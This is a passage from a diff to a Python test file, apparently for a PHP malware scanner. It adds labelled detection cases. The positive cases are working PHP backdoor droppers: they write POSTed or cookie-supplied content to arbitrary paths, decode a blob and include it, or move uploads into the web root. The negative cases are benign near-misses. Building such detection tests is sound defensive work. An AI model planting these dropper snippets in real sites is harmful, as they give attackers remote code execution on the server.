IGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
+        ),
+        True,
+    ),  # c/x07.php padded
+    (
+        "SPAMGEAR_OBFUSC_Base64CodeDropper",
+        embedded(
+            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
+        ),
+        True,
+    ),  # c/x07.php embedded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
+        ),
+        True,
+    ),  # c/x08.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
+        ),
+        True,
+    ),  # c/x08.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
+        ),
+        True,
+    ),  # c/x08.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
+        ),
+        True,
+    ),  # c/y01.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
+        ),
+        True,
+    ),  # c/y01.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
+        ),
+        True,
+    ),  # c/y01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
+        ),
+        True,
+    ),  # c/y02.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
+        ),
+        True,
+    ),  # c/y02.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
+        ),
+        True,
+    ),  # c/y02.php embedded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        plain(
+            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
+        ),
+        True,
+    ),  # c/y03.php
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded(
+            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
+        ),
+        True,
+    ),  # c/y03.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        embedded(
+            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
+        ),
+        True,
+    ),  # c/y03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
+        ),
+        True,
+    ),  # c/y04.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
+        ),
+        True,
+    ),  # c/y04.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
+        ),
+        True,
+    ),  # c/y04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
+        ),
+        True,
+    ),  # c/y05.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
+        ),
+        True,
+    ),  # c/y05.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
+        ),
+        True,
+    ),  # c/y05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
+        ),
+        True,
+    ),  # c/y06.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
+        ),
+        True,
+    ),  # c/y06.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
+        ),
+        True,
+    ),  # c/y06.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php $f = $_FILES['file']; if ($f['error'] == 0) { move_uploaded_file($f['tmp_name'], __DIR__ . '/' . $f['name']); echo 'OK'; } ?>"
+        ),
+        True,
+    ),  # c/z01.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php $f = $_FILES['file']; if ($f['error'] == 0) { move_uploaded_file($f['tmp_name'], __DIR__ . '/' . $f['name']); echo 'OK'; } ?>"
+        ),
+        True,
+    ),  # c/z01.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
+        ),
+        True,
+    ),  # c/z03.php
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
+            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
+        ),
+        True,
+    ),  # c/z03.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
+        ),
+        True,
+    ),  # c/z03.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php copy($_FILES['a']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR . $_FILES['a']['name']);"
+        ),
+        True,
+    ),  # c/z04.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php copy($_FILES['a']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR . $_FILES['a']['name']);"
+        ),
+        True,
+    ),  # c/z04.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        plain("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
+        True,
+    ),  # c/z05.php
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
+        True,
+    ),  # c/z05.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        embedded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
+        True,
+    ),  # c/z05.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        plain(
+            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
+        ),
+        True,
+    ),  # c/z06.php
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        padded(
+            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
+        ),
+        True,
+    ),  # c/z06.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        embedded(
+            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
+        ),
+        True,
+    ),  # c/z06.php embedded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -3354,6 +4021,90 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         False,
     ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
+            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        plain(
+            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        padded(
+            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        embedded(
+            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php\nfile_put_contents($svg, base64_decode($icon));\n$w = 16;\n$h = 16;\n$title = 'icon';\n$alt = '';\n$class = 'x';\n$id = 'y';\ninclude $template;\n"
+        ),
+        False,
+    ),
     ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("Options +ExecCGI\nAddHandler cgi-script .cgi .pl\n"), False),
     (
         "SPAMGEAR_POLYGLOT_HtaccessHandler",
@@ -3376,6 +4127,42 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("AddHandler application/x-httpd-lsphp .php\n"), False),
     ("SPAMGEAR_POLYGLOT_HtaccessHandler", ht_padded("AddHandler application/x-httpd-lsphp .php\n"), False),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('php_value auto_prepend_file "/home/u/public_html/wordfence-waf.php"\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('php_value auto_prepend_file "/home/u/public_html/wordfence-waf.php"\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('php_value auto_prepend_file none\nphp_value include_path ".:/usr/share/php"\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('php_value auto_prepend_file none\nphp_value include_path ".:/usr/share/php"\n'),
+        False,
+    ),
+    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file = /usr/share/php/prepend.inc\n"), False),
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("auto_prepend_file = /usr/share/php/prepend.inc\n"),
